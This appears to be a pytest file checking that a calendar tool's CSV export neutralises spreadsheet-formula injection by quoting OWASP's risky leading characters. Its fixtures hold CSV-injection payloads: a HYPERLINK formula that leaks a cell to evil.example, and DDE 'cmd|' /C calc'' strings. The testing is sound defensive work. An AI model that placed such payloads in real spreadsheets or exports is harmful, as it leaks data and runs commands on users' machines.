"""--csv: a title that looks like a formula stays text in a spreadsheet (issue 15, item 3).

OWASP's rule for CSV injection: a text cell that starts with =, +, -, @, a tab or
a carriage return gets a leading single quote. Only the calendar's text is quoted;
the numbers and dates levelcal writes stay numbers and dates.
"""

from __future__ import annotations

import csv
import io

from calendars import vcalendar, vevent

WINDOW = ("--from", "2026-03-02", "--to", "2026-03-09")
FORMULAS = {
    "hyperlink@f": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "plus@f": "+1+cmd|' /C calc'!A0",
    "minus@f": "-2+3 budget sync",
    "at@f": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def rows(run, path) -> list[dict[str, str]]:
    result = run("analyze", "-c", str(path), "--csv", *WINDOW)
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout, newline="")))


def test_a_title_that_starts_like_a_formula_gets_a_quote(run, tmp_path):
    path = tmp_path / "formulas.ics"
    events = [
        vevent(uid, title.replace(",", "\\,").replace(";", "\\;"),
               f"DTSTART:20260302T{9 + index:02d}0000Z", f"DTEND:20260302T{9 + index:02d}3000Z")
        for index, (uid, title) in enumerate(FORMULAS.items())
    ]  # fmt: skip
    path.write_bytes(
        vcalendar(
            *events,
            vevent(
                "plain@f", "Roadmap review", "DTSTART:20260303T090000Z", "DTEND:20260303T100000Z"
            ),
        )
    )
    by_uid = {row["uid"]: row for row in rows(run, path)}
    for uid, title in FORMULAS.items():
        assert by_uid[uid]["title"] == "'" + title
    assert by_uid["plain@f"]["title"] == "Roadmap review"
    # levelcal's own cells are untouched: hours and confidence stay numbers
    assert by_uid["plain@f"]["hours"] == "1.000000"
    assert float(by_uid["plain@f"]["confidence"]) > 0
    assert by_uid["plain@f"]["start"] == "2026-03-03T09:00:00+00:00"


def test_a_uid_and_a_calendar_name_that_start_like_formulas_get_a_quote(run, tmp_path):
    path = tmp_path / "=cmd.ics"  # the source is the file's path: text from the user
    path.write_bytes(
        vcalendar(
            vevent("=1+2@f", "Sync", "DTSTART:20260302T090000Z", "DTEND:20260302T100000Z"),
            header="X-WR-CALNAME:@evil\n",
        )
    )
    (row,) = rows(run, path)
    assert row["uid"] == "'=1+2@f"
    assert row["calendar"] == "'@evil"
    assert row["source"] == str(path)  # a path starts with /: nothing to quote


def test_every_start_owasp_names_is_quoted_and_read_back():
    from levelcal.csv_cells import as_written, neutralized

    for start in ("=", "+", "-", "@", "\t", "\r"):
        cell = neutralized(f"{start}1+1")
        assert cell == f"'{start}1+1" and as_written(cell) == f"{start}1+1"
    assert neutralized("Q3 -> Q4") == "Q3 -> Q4"


def test_a_corrections_csv_written_from_the_report_reads_its_titles_back(tmp_path):
    from levelcal.classify.personal import read_csv

    path = tmp_path / "fixes.csv"
    path.write_text(
        "title,level,uid\n'=HYPERLINK(\"x\"),doing,'@u1\n'plain quote,managing,\n",
        encoding="utf-8",
    )
    first, second = read_csv(path)
    assert (first.features.title, first.uid) == ('=HYPERLINK("x")', "@u1")
    assert second.features.title == "'plain quote"  # a quote before no formula is the title's
